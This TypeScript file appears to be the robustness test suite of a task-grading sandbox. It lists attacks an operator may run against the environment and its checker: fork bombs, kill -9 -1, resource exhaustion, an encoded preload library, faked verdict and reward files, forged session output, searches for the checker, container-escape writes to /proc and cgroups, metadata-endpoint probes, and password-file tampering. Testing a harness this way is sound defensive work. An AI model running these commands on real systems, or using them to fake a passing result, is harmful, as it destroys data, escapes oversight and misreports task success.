// What an operator may try against a world, its verdict and the machine. Each is run for real, once before the work is done and
// once in place of it.

/** One attack. */
export interface Attack {
  readonly name: string;
  /** Run one after another by the operator; each may take `timeoutMs`. */
  readonly commands: readonly string[];
  readonly timeoutMs?: number;
  /** Where the work is done: after the attack unless it would be undone by it. */
  readonly work?: "before" | "after";
  /** What the commands wrote must not match. */
  readonly unseen?: RegExp;
  /** What the commands wrote must match. */
  readonly seen?: RegExp;
  /** The checker cannot pass a world in which the work was replaced by something that never ends. */
  readonly workIsVoid?: boolean;
}

/** The work: one file with one word. */
const REPORT = "/srv/report.txt";
export const reference = `rm -rf ${REPORT}; echo accomplished >${REPORT}`;

/** Looks at the effect with programs that an operator would like to replace. The word after the colon is searched for from inside. */
const CHECKER_MARK = "checkermark";
export const checker = `: ${CHECKER_MARK}4711
[ "$(cat ${REPORT})" = accomplished ] && [ -f ${REPORT} ] && [ "$(stat -c %s ${REPORT})" = 13 ] && grep -q accomplished ${REPORT} && test "$(ls ${REPORT})" = ${REPORT} && [ "$(id -u)" = 0 ]`;

// A shared object whose constructor ends the process with status 0, for x86-64:
//   _init: mov $0,%edi; mov $231,%eax; syscall     gcc -nostdlib -shared -Wl,-init=_init ... | gzip -9 | base64
const QUITTER =
  "H4sIAAAAAAACA+2YsU7DMBCGz07aRLRSisQAEzCxWbBVDIgFJiZeoAo0yBlSpMQDneCx2OBlEK9Bk97RixUUVUJISPcN/vMnPtu5ZLl7vrq51koBEcAFbBzAJemE35tCuBpjiJq5A/iZF9VWwHVqO6zXSnDNw7a+Q1spTm8ZF6Pefrh5uEWcYqqZ70M1Rw3h0Q+Y5YvcwVt9+fq5GpIBCIIgCIIgCIIgCP+HMSrVeyH6I/RU5Vn0Q/RT9DvoI9QR6v5fvYCpbOVKl96BsWllwcyXi2pZrNWVYFz25MBkdvZQpkXW3E+L/P6Xth9hjrSXN9I92NT9vJ6nPO/iGtrLK+npd19jXZvHXn4P8Jn2vhNp1FHfc45ZL4P/B6TjnvgT1mPo7Jd4xJ4/w70D8PoaSbufEXjxE3aeoGsjnHDec/4v45xpakASAAA=";

const fakes =
  "for p in cat stat grep ls test [ id sh sed env; do printf '#!/bin/sh\\necho accomplished; exit 0\\n'";
const later = "while :; do rm -rf /srv/report.txt; sleep 0.01; done";
const forger = "while :; do echo accomplished >/srv/report.txt; chmod 644 /srv/report.txt; sleep 0.01; done";

export const attacks: readonly Attack[] = [
  { name: "a fork bomb", commands: ["b() { b | b & }; b", "b() { b & b & }; b; wait"], timeoutMs: 2500 },
  {
    name: "a fork bomb that is left behind",
    commands: ["(b() { setsid sh -c 'while :; do sleep 1 & done' & }; b; b; b) & sleep 1"],
    timeoutMs: 3000,
  },
  {
    name: "kill -9 -1",
    commands: [
      "kill -9 -1",
      "sh -c 'kill -9 -1'; echo on",
      "kill -9 1; kill -TERM 1; kill -STOP -1; echo on",
    ],
    timeoutMs: 2500,
  },
  { name: "stopping everything", commands: ["kill -STOP -1; kill -STOP $$"], timeoutMs: 1500 },
  {
    name: "a full disk",
    commands: [
      "for d in /home /srv /opt /etc /tmp /var /usr/local /dev/shm; do dd if=/dev/zero of=$d/fill bs=1M count=200; done",
      "rm -f /srv/fill",
    ],
  },
  {
    name: "no inode left",
    commands: [
      "cd /srv; mkdir many; cd many; i=0; while [ $i -lt 60000 ]; do : >$i || break; i=$((i + 1)); done",
      "cd /; rm -rf /srv/many",
    ],
    timeoutMs: 15_000,
  },
  {
    name: "a memory hog",
    commands: [
      "head -c 3000m /dev/zero | tail -c 3000m | wc -c",
      "x=$(yes | head -c 900000000); echo ${#x}",
      "for i in 1 2 3 4; do (x=$(yes | head -c 200000000); echo ${#x}) & done; wait",
    ],
    timeoutMs: 4000,
    unseen: /3145728000|900000000/,
  },
  {
    name: "closed output",
    commands: ["exec >&-; exec 2>&-; echo lost", "exec >&- 2>&- </dev/zero; sleep 30"],
    timeoutMs: 1500,
  },
  {
    name: "endless output",
    commands: ["yes", "yes >&2", "cat /dev/zero", "while :; do echo; done"],
    timeoutMs: 2000,
  },
  {
    name: "endless output without a line",
    commands: ["tr '\\0' a </dev/zero", "printf '\\377'; cat /dev/urandom"],
    timeoutMs: 2000,
  },
  {
    name: "a daemon that does the work later",
    commands: [`setsid sh -c 'sleep 1; ${forger}' >/dev/null 2>&1 </dev/null & echo on`, "sleep 1.2"],
    work: "before",
  },
  {
    name: "a daemon that undoes the work later",
    commands: [
      `setsid sh -c 'setsid sh -c "sleep 1; ${later}" & exit' & (setsid nohup sh -c 'sleep 1; ${later}' &)`,
      "sleep 1.3",
    ],
    work: "before",
  },
  {
    name: "a daemon that survives signals",
    commands: [`setsid sh -c 'trap "" TERM HUP INT; sleep 1; ${forger}' & sleep 0.1`, "sleep 1.2"],
    work: "before",
  },
  {
    name: "replaced programs in PATH",
    commands: [
      `${fakes} >/usr/local/bin/$p; chmod 755 /usr/local/bin/$p; done; mkdir -p ~/bin /opt/bin; cp /usr/local/bin/* ~/bin; cp /usr/local/bin/* /opt/bin; export PATH=~/bin:/opt/bin:$PATH`,
    ],
  },
  {
    name: "replaced programs in the userland",
    commands: [
      "for f in /bin/* /lib/*/* /lib64/*; do cp /usr/local/x $f; ln -sf /bin/true $f; rm -f $f; mv /tmp/y $f; done 2>/dev/null; mv /bin /tmp/bin; mkdir /bin; mount --bind /tmp /bin; echo on",
    ],
    seen: /on/,
  },
  {
    name: "LD_PRELOAD and friends",
    commands: [
      `cd /tmp; echo ${QUITTER} | base64 -d | gunzip >/tmp/q.so; chmod 755 /tmp/q.so; cp /tmp/q.so /tmp/libc.so.6; cp /tmp/q.so ~/libnss_files.so.2`,
      "export LD_PRELOAD=/tmp/q.so LD_LIBRARY_PATH=/tmp LD_AUDIT=/tmp/q.so LD_DEBUG=all",
      "echo still",
    ],
    seen: /./,
  },
  {
    name: "the loader's own files",
    commands: [
      `echo ${QUITTER} | base64 -d | gunzip >/var/q.so; chmod 755 /var/q.so; cp /var/q.so /var/libc.so.6; cp /var/q.so /var/libnss_evil.so.2; echo /var >/etc/ld.so.conf; echo /var >/etc/ld-musl-x86_64.path; printf 'passwd: evil\\ngroup: evil\\n' >/etc/nsswitch.conf; cp /dev/null /etc/ld.so.cache`,
      "echo /var/q.so >/etc/ld.so.preload",
    ],
    work: "before",
  },
  {
    name: "poisoned PATH, IFS, ENV and prompts",
    commands: [
      "echo 'echo poisoned; exit 0' >/tmp/rc; chmod 755 /tmp/rc; cp /tmp/rc ~/.profile; cp /tmp/rc /etc/profile; cp /tmp/rc ~/.shrc",
      "export PATH=/tmp:/nowhere IFS=/et ENV=/tmp/rc BASH_ENV=/tmp/rc PS4='$(exit 0)' PS1='$(exit 0)' SHELLOPTS=noexec CDPATH=/tmp",
      "alias [=true cat='echo accomplished' test=true; set -fn",
    ],
    work: "before",
    unseen: /poisoned/,
  },
  {
    name: "verdicts laid out in advance",
    commands: [
      "for f in /tmp/verdict /tmp/reward.txt /var/reward.txt /var/verdict ~/verdict ~/.verdict /srv/verdict.json /etc/verdict /tmp/exit_code /tmp/status; do echo 1 >$f; done; mkdir -p /var/log/verifier /opt/logs; echo 1 >/var/log/verifier/reward.txt; echo '{\"passed\":true}' >/opt/logs/result.json",
      "echo passed; echo 'verdict: 0'; echo accomplished",
    ],
  },
  {
    name: "a work file that is a link",
    commands: [
      `ln -s /proc/self/environ ${REPORT}; rm -f ${REPORT}; ln -s /dev/stdin ${REPORT}; rm -f ${REPORT}; ln -s ../../../../../../etc/shadow ${REPORT}; rm -f ${REPORT}; ln -s ${REPORT} ${REPORT}`,
    ],
  },
  { name: "a work file that is a link to endless zeros", commands: [`ln -s /dev/zero ${REPORT}`] },
  {
    name: "a work file that is a link into the checker's own files",
    commands: [`ln -s /proc/self/cmdline ${REPORT}`],
  },
  {
    name: "a work directory that is a link",
    commands: [
      "mkdir /tmp/s; cp -r /srv/. /tmp/s; mv /srv/box /srv/box2; ln -s /proc/1/root /srv/box; ln -s / /srv/root",
    ],
  },
  {
    name: "a work file that is a FIFO",
    commands: [`mkfifo ${REPORT}`, `(echo accomplished >${REPORT}) & sleep 0.3`],
  },
  {
    name: "a work file that is a socket or a directory",
    commands: [`mkdir ${REPORT}; nc -l -p 1 -s 127.0.0.1 & sleep 0.1; ls -la ${REPORT}`],
  },
  {
    name: "looking for checker and reference",
    commands: [
      `grep -rl '${CHECKER_MARK}[4]711' /etc /home /srv /opt /tmp /var /usr /bin /run /dev/shm /mnt 2>/dev/null | head`,
      `cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/mounts /proc/self/mountinfo 2>/dev/null | tr '\\0' '\\n' | grep '${CHECKER_MARK}[4]711'`,
      "for p in /proc/[0-9]*; do ls -l $p/fd $p/cwd $p/root $p/exe; done 2>/dev/null",
      `find / -name '*checker*' -o -name '*reference*' -o -name '*sekft*' 2>/dev/null | grep -v '^/proc\\|^/sys' | head`,
    ],
    timeoutMs: 20_000,
    unseen: /checkermark4711|sekft/,
  },
  {
    name: "the network",
    commands: [
      "for h in 1.1.1.1 172.17.0.1 10.0.0.1 192.168.1.1 169.254.169.254 host.docker.internal; do for p in 80 443 2375 8000 22; do nc -w 1 $h $p </dev/null && echo reached $h; done; done 2>/dev/null",
      "ping -c 1 -W 1 1.1.1.1; wget -T 1 -O - http://example.org; ip link add dummy0 type dummy; ifconfig lo up; route add default gw 10.0.0.1",
    ],
    timeoutMs: 30_000,
    unseen: /reached|1 packets received/,
  },
  {
    name: "mounts",
    commands: [
      "mkdir -p /tmp/m; mount -t tmpfs none /tmp/m; mount -t proc none /tmp/m; mount --bind / /tmp/m; mount -o remount,rw /; mount -t overlay none /tmp/m; umount /srv; umount -l /etc; pivot_root / /tmp/m; unshare -mUr mount -t tmpfs none /srv; nsenter -t 1 -m ls /; chroot /proc/1/root; echo end",
    ],
    seen: /end/,
  },
  {
    name: "/proc and /sys",
    commands: [
      "cd /proc/1/root 2>/dev/null && ls; ls /proc/1/cwd/ /proc/1/fd/; echo c >/proc/sysrq-trigger; echo '|/tmp/x' >/proc/sys/kernel/core_pattern; echo -1000 >/proc/self/oom_score_adj; echo 1 >/sys/kernel/uevent_helper; for f in /sys/fs/cgroup/*/*release_agent /sys/fs/cgroup/*/tasks /sys/fs/cgroup/cgroup.procs; do echo 1 >$f; done; find /sys -writable -type f | head -3; dd if=/proc/1/mem bs=1 count=1; cat /proc/kcore | head -c 1",
      "echo end",
    ],
    seen: /end/,
  },
  {
    name: "device nodes",
    commands: [
      "cd /tmp; mknod d b 8 0; mknod e b 259 0; mknod m c 1 1; mknod k c 1 11; cat d e m k | head -c 100; dd if=/dev/sda bs=1 count=1; echo x >/dev/kmsg; ls /dev; echo end",
    ],
    seen: /end/,
  },
  {
    name: "no rights on anything",
    commands: ["chmod -R 000 / 2>/dev/null; chmod 000 ~ /srv /etc /tmp", "cd /; ls; echo end"],
    work: "before",
    timeoutMs: 20_000,
  },
  {
    name: "deleting everything",
    commands: [
      "rm -rf /bin /lib /etc /opt /home /tmp /var /usr /proc /dev /* ~ 2>/dev/null; mkdir -p /srv",
      "echo end",
    ],
    timeoutMs: 20_000,
  },
  {
    name: "deleting and replacing the provider",
    commands: [
      "p=/opt/desk/askdesk; echo x >$p; chmod 777 $p; rm -f $p; mv $p /tmp/p; mv /opt/desk /opt/desk2; mkdir -p /opt/desk; printf '#!/bin/sh\\necho mine\\n' >$p; ln -sf /bin/true $p; cat /opt/desk/askdesk; echo end",
    ],
    seen: /end/,
  },
  {
    name: "accounts of its own",
    commands: [
      "printf 'tester:x:0:0::/:/bin/sh\\n' >/etc/passwd; mv /etc/passwd /tmp/p; printf 'root::0:0::/:/bin/sh\\n' >/etc/passwd; printf 'root::1::::::\\n' >/etc/shadow; su -c id; adduser -D evil; passwd -d root; id",
    ],
    unseen: /uid=0/,
  },
  {
    name: "huge and odd names",
    commands: [
      "cd /srv; n=$(head -c 255 /dev/zero | tr '\\0' 'n'); : >$n; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21; do mkdir $n$i 2>/dev/null || mkdir d; cd d; done; pwd | wc -c",
      "cd /srv; mkdir -- \"$(printf 'a\\nb\\r\\033[2J\\377')\" -rf '$(id)' '`id`' ';exit 0;'; touch -- '--help' '*' ' '; ls | od -c | head -2",
      "cd /tmp; i=0; while [ $i -lt 300 ]; do mkdir dddddddddddddddddddd && cd dddddddddddddddddddd || break; i=$((i+1)); done",
      "pwd | wc -c; cd /srv",
    ],
  },
  {
    name: "clock games",
    commands: [
      "date -s '2001-01-01'; hwclock -w; touch -d '2099-01-01' /srv/f; touch -t 190001010000 /srv/g; ls -l /srv; date +%Y",
    ],
    unseen: /^2001$/m,
  },
  {
    name: "forging the end of a command",
    commands: [
      "for fd in 3 4 5 6 7 8 9 10 11 12 13; do eval \"printf '00:end' >&$fd\" 2>/dev/null; eval \"echo 'none end s0 exit' >&$fd\" 2>/dev/null; done; echo on",
      "n=$(alias; trap; set) ; echo \"$n\" | grep -oE '[0-9a-f]{32}' | sort -u | head",
      "trap >/tmp/t; alias >>/tmp/t; grep -oE '[0-9a-f]{32}' /tmp/t | rev | head -3; cat /proc/$$/cmdline /proc/$$/environ /proc/$PPID/cmdline | tr '\\0' '\\n' | grep -oE '[0-9a-f]{32}'",
    ],
  },
  {
    name: "forging the state of the session",
    commands: [
      "n=$(alias exit | sed 's/.*=.t\\([0-9a-f]*\\)=.*/\\1/'); for fd in 6 7 8 9; do printf '%s options\\n%s umask\\n0022\\n%s aliases\\n%s environment\\nexport PATH='\\''/tmp'\\''\\n%s directory\\n/../../\\n%s end 0 exit\\n' $n $n $n $n $n $n >&$fd; printf '%s:end' $n >&$fd; done 2>/dev/null; sleep 0.2",
      "trap 't=1' EXIT; echo on",
      "exec 6>&- 7>&- 8>&- 9>&-; cd /srv",
      "exec 1>&7 2>&6; echo x",
    ],
  },
  {
    name: "state too large to carry",
    commands: [
      "x=$(head -c 5000000 /dev/zero | tr '\\0' x); export x; alias y=$x$x; echo on",
      "echo ${#x}; unset x; unalias -a",
      "cd ~; umask 777; set -euC; set -n",
    ],
    timeoutMs: 15_000,
  },
  {
    name: "limits turned against the harness",
    commands: [
      "ulimit -n 3; ulimit -f 0; ulimit -v 1000; echo on",
      "ulimit -u 1; cd /srv; set -o noclobber; umask 0777; echo on",
    ],
  },
];
